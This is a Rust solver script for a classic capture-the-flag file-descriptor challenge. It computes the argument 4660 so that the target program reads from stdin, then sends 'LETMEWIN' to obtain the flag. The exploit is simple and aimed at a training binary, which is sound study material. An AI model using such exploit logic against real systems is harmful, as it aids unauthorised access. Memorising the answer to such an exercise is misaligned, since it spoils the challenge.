//! Solve the canonical fd redirection challenge: the target computes
//! `fd = atoi(argv[1]) - 0x1234`, reads 32 bytes from it, and prints the flag
//! when the bytes match `LETMEWIN\n`. Landing fd on 0 turns our stdin pipe
//! into the resource it reads.

use clap::Parser;
use fdpwn::connection::{Connection, Process};
use fdpwn::solver::{compute_argument, std_stream, verify_read, StdStream};
use fdpwn::util::Payload;

#[derive(Parser)]
struct Opts {
    binary: String,
    #[clap(long, default_value = "4660")]
    bias: u64,
}

#[tokio::main]
async fn main() -> fdpwn::error::Result<()> {
    env_logger::init();
    let opts: Opts = Opts::parse();

    let argument = compute_argument(opts.bias, StdStream::Stdin as i64);
    assert_eq!(std_stream(argument - opts.bias as i64), Some(StdStream::Stdin));
    println!("running {} {}", opts.binary, argument);

    let mut conn = Process::with_args(&opts.binary, &[argument.to_string()])?;

    let mut payload = Payload::default();
    payload += &b"LETMEWIN\n"[..];
    conn.send(&payload).await?;

    let reply = conn.recvline().await?;
    if verify_read(&reply, b"good job :)\n") {
        println!("{}", String::from_utf8_lossy(&conn.recvline().await?));
    } else {
        println!("unexpected reply: {:?}", String::from_utf8_lossy(&reply));
    }

    Ok(())
}
